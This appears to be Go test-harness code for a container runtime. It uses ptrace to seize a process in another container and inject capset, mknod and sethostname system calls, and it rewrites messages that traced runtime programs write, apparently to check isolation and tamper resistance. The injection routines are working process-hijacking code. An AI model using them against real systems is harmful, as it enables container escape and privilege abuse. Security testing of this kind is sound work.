package main

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// injectMknod attaches to a process of another container in its pid namespace and makes it
// create a device node: mknod(2) needs CAP_MKNOD.
func injectMknod(args []string) error {
	pid, err := otherProcess()
	if err != nil {
		return err
	}
	runtime.LockOSThread()
	fmt.Println("CapEff", statusField(pid, "CapEff"), "CapPrm", statusField(pid, "CapPrm"))
	if err := unix.PtraceSeize(pid); err != nil {
		return fmt.Errorf("ptrace: %w", err)
	}
	return injectSeized(pid, args[0])
}

// injectedName is the host name that a traced process must set, which needs CAP_SYS_ADMIN.
const injectedName = "attacked"

// injectSeized makes a process that this thread is attached to create a device node.
func injectSeized(pid int, name string) error {
	if err := unix.PtraceInterrupt(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		return err
	}
	memory, err := writableMemory(pid)
	if err != nil {
		return err
	}
	if _, err := unix.PtracePokeData(pid, memory, append([]byte(name), 0)); err != nil {
		return err
	}
	// Raise the permitted capabilities first, as a process may for itself.
	caps := memory + 64
	header := []byte{0x22, 0x05, 0x08, 0x20, 0, 0, 0, 0}
	permitted, _ := strconv.ParseUint(statusField(pid, "CapPrm"), 16, 64)
	data := header
	for _, shift := range []int{0, 32} {
		for _, set := range []uint64{permitted, permitted, 0} {
			v := uint32(set >> shift)
			data = append(data, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
		}
	}
	if _, err := unix.PtracePokeData(pid, caps, data); err != nil {
		return err
	}
	fmt.Println("capset:", injectCall(pid, unix.SYS_CAPSET, uint64(caps), uint64(caps+8), 0))
	err = injectCall(pid, unix.SYS_MKNOD, uint64(memory), unix.S_IFCHR|0o666, unix.Mkdev(1, 3))
	fmt.Println("mknod:", err)
	if err != nil { // it may have CAP_SYS_ADMIN all the same
		_, _ = unix.PtracePokeData(pid, memory, []byte(injectedName))
		fmt.Println("sethostname:", injectCall(pid, unix.SYS_SETHOSTNAME, uint64(memory), uint64(len(injectedName)), 0))
	}
	_ = unix.PtraceDetach(pid)
	return err
}

// injectCall makes a stopped process execute another system call in place of its next.
func injectCall(pid int, number, a, b, c uint64) error {
	const entering = -int64(unix.ENOSYS) // the result, before the call is made
	for range 10 {
		if err := unix.PtraceSyscall(pid, 0); err != nil {
			return err
		}
		var ws unix.WaitStatus
		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
			return fmt.Errorf("it has ended: %w", err)
		}
		var regs unix.PtraceRegs
		if err := unix.PtraceGetRegs(pid, &regs); err != nil {
			return err
		}
		if int64(regs.Rax) != entering {
			continue
		}
		regs.Orig_rax, regs.Rdi, regs.Rsi, regs.Rdx = number, a, b, c
		if err := unix.PtraceSetRegs(pid, &regs); err != nil {
			return err
		}
		if err := unix.PtraceSyscall(pid, 0); err != nil {
			return err
		}
		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
			return err
		}
		if err := unix.PtraceGetRegs(pid, &regs); err != nil {
			return err
		}
		if n := int64(regs.Rax); n < 0 {
			return unix.Errno(-n)
		}
		return nil
	}
	return fmt.Errorf("it makes no system calls")
}

// otherProcess is a process in the pid namespace that is neither this one nor the first.
func otherProcess() (int, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return 0, err
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err == nil && pid != 1 && pid != os.Getpid() {
			return pid, nil
		}
	}
	return 0, fmt.Errorf("no other process")
}

// writableMemory is an address at which a process has memory to write to.
func writableMemory(pid int) (uintptr, error) {
	f, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, err
	}
	defer f.Close()
	for lines := bufio.NewScanner(f); lines.Scan(); {
		fields := strings.Fields(lines.Text())
		if strings.HasPrefix(fields[1], "rw") {
			_, end, _ := strings.Cut(fields[0], "-")
			n, err := strconv.ParseUint(end, 16, 64)
			return uintptr(n) - 512, err
		}
	}
	return 0, fmt.Errorf("no writable memory")
}

// subvert runs a command of rt and plays a program of rt under somebody else's control:
// change is called with each message that the program sends to rt, and may change it.
func (t *try) subvert(cmd *exec.Cmd, change func(message []uint64)) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	cmd.SysProcAttr = &syscall.SysProcAttr{Ptrace: true}
	null, err := os.Open(os.DevNull)
	t.must(err)
	defer null.Close()
	out, err := os.Create(filepath.Join(t.Dir, "subverted"))
	t.must(err)
	defer out.Close()
	cmd.Stdin, cmd.Stdout, cmd.Stderr = null, out, out
	t.must(cmd.Start())
	defer func() { t.logf("subverted: %s", shorten(read(out.Name()))) }()
	main := cmd.Process.Pid
	var ws unix.WaitStatus
	_, err = unix.Wait4(main, &ws, unix.WALL, nil)
	t.must(err)
	const options = unix.PTRACE_O_TRACECLONE | unix.PTRACE_O_TRACEFORK | unix.PTRACE_O_TRACEVFORK | unix.PTRACE_O_TRACEEXEC | unix.PTRACE_O_TRACESYSGOOD | unix.PTRACE_O_EXITKILL
	t.must(unix.PtraceSetOptions(main, options))
	t.must(unix.PtraceCont(main, 0))
	subverted := map[int]bool{}
	for {
		pid, err := unix.Wait4(-1, &ws, unix.WALL, nil)
		if err == unix.EINTR {
			continue
		}
		if err != nil {
			return
		}
		if ws.Exited() || ws.Signaled() {
			if pid == main {
				return
			}
			continue
		}
		signal := 0
		switch stop := ws.StopSignal(); {
		case stop == unix.SIGTRAP|0x80:
			t.intercept(pid, change)
		case stop == unix.SIGTRAP && ws.TrapCause() == unix.PTRACE_EVENT_EXEC:
			subverted[pid] = pid != main
		case stop == unix.SIGTRAP || stop == unix.SIGSTOP || stop == unix.SIGURG:
		default:
			signal = int(stop)
		}
		if subverted[pid] {
			_ = unix.PtraceSyscall(pid, signal)
		} else {
			_ = unix.PtraceCont(pid, signal)
		}
	}
}

// intercept changes a message of 16 bytes that a process is about to write.
func (t *try) intercept(pid int, change func([]uint64)) {
	var regs unix.PtraceRegs
	const entering = -int64(unix.ENOSYS) // the result, before the call is made
	if unix.PtraceGetRegs(pid, &regs) != nil || int64(regs.Rax) != entering || regs.Orig_rax != unix.SYS_WRITE || regs.Rdx != 16 {
		return
	}
	data := make([]byte, 16)
	if _, err := unix.PtracePeekData(pid, uintptr(regs.Rsi), data); err != nil {
		return
	}
	words := make([]uint64, 2)
	for i := range data {
		words[i/8] |= uint64(data[i]) << (8 * (i % 8))
	}
	change(words)
	for i := range data {
		data[i] = byte(words[i/8] >> (8 * (i % 8)))
	}
	_, _ = unix.PtracePokeData(pid, uintptr(regs.Rsi), data)
}
